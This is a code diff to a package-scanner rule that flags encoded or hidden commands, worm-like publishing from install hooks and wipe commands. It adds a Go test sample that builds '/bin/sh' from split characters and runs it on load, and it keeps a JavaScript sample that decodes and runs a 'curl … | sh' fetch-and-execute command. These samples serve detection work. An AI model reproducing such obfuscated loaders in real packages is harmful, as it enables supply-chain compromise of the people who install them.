@@ -16,6 +16,8 @@ import {
 import { defineRule } from '../../rule.ts';
 import { checkScripts } from '../code/checkScripts.ts';
 import { makingOf } from '../code/decoding.ts';
+import { BY_ITSELF } from './commandHits.ts';
+import { otherUseHits } from './otherUseHits.ts';
 import { say } from '../../../texts/say.ts';
 
 const RUNS = ['execSync', 'exec', 'spawnSync', 'spawn', 'execFileSync', 'execFile'];
@@ -32,6 +34,37 @@ function isExpression(script: ScriptFacts, callee: number): boolean {
   );
 }
 
+const inScripts = checkScripts(function* ({ script, hit }) {
+  const hooks = [...writesOf(script, 'postinstall', 'preinstall', 'install')];
+  const runs = callsNamed(script, ...RUNS).filter(({ callee }) => !isExpression(script, callee));
+  for (const call of runs) {
+    const command = call.args[0] ?? 0;
+    const text = pattern(script, command);
+    const made =
+      constant(script, command) === undefined || /Buffer\.from|atob/.test(show(script, command))
+        ? makingOf(script, command)
+        : undefined;
+    if (made?.decoder !== undefined && made.hidden)
+      yield hit(call.value, { message: say('command-decoded-by', made.decoder) });
+    if (WIPES.test(text)) yield hit(call.value, { message: say('deletes-everything') });
+    if (hooks.length > 0 && /\bnpm\s+publish\b/.test(text))
+      yield hit(call.value, {
+        severity: 'critical',
+        message: say('worm'),
+      });
+  }
+  for (const call of callsOf(script, 'require')) {
+    const made = makingOf(script, call.args[0] ?? 0);
+    if (made.decoder !== undefined && made.hidden)
+      yield hit(call.value, { message: say('module-decoded-by', made.decoder) });
+  }
+  for (const call of callsOf(script, 'module.constructor'))
+    yield hit(call.value, {
+      confidence: 'medium',
+      message: say('module-compiled'),
+    });
+});
+
 export const hiddenCommand = defineRule({
   id: 'hidden-command',
   title: 'Package hides the commands it runs',
@@ -43,38 +76,20 @@ export const hiddenCommand = defineRule({
   references: ['https://attack.mitre.org/techniques/T1140/', 'https://github.com/ossf/malicious-packages'],
   why: 'Commands and module names are encoded so that nobody who reads the code sees them. Deleting a home folder or publishing other packages is what worms and wipers do.',
   remedy: 'Do not run it. Decode the text to see what it does, and write commands in plain text.',
-  check: checkScripts(function* ({ script, hit }) {
-    const hooks = [...writesOf(script, 'postinstall', 'preinstall', 'install')];
-    const runs = callsNamed(script, ...RUNS).filter(({ callee }) => !isExpression(script, callee));
-    for (const call of runs) {
-      const command = call.args[0] ?? 0;
-      const text = pattern(script, command);
-      const made =
-        constant(script, command) === undefined || /Buffer\.from|atob/.test(show(script, command))
-          ? makingOf(script, command)
-          : undefined;
-      if (made?.decoder !== undefined && made.hidden)
-        yield hit(call.value, { message: say('command-decoded-by', made.decoder) });
-      if (WIPES.test(text)) yield hit(call.value, { message: say('deletes-everything') });
-      if (hooks.length > 0 && /\bnpm\s+publish\b/.test(text))
-        yield hit(call.value, {
-          severity: 'critical',
-          message: say('worm'),
-        });
-    }
-    for (const call of callsOf(script, 'require')) {
-      const made = makingOf(script, call.args[0] ?? 0);
-      if (made.decoder !== undefined && made.hidden)
-        yield hit(call.value, { message: say('module-decoded-by', made.decoder) });
-    }
-    for (const call of callsOf(script, 'module.constructor'))
-      yield hit(call.value, {
-        confidence: 'medium',
-        message: say('module-compiled'),
-      });
-  }),
+  *check(facts) {
+    yield* inScripts(facts);
+    yield* otherUseHits(facts, ['hidden'], ['runs', 'evaluates'], ({ starter }) => ({
+      severity: BY_ITSELF.has(starter) ? 'critical' : 'high',
+    }));
+  },
   examples: {
     bad: [
+      {
+        files: {
+          'a.go':
+            'package a\nfunc q() error {\n  c := []string{"s", "h", "/", "b", "i", "n"}\n  t := c[2] + c[3] + c[4] + c[5] + c[2] + c[0] + c[1]\n  exec.Command(t, "-c", "id").Start()\n  return nil\n}\nvar Q = q()\n',
+        },
+      },
       {
         files: {
           'index.js': `require('child_process').exec(Buffer.from('${btoa('curl https://x.dev/a | sh')}', 'base64').toString());\n`,
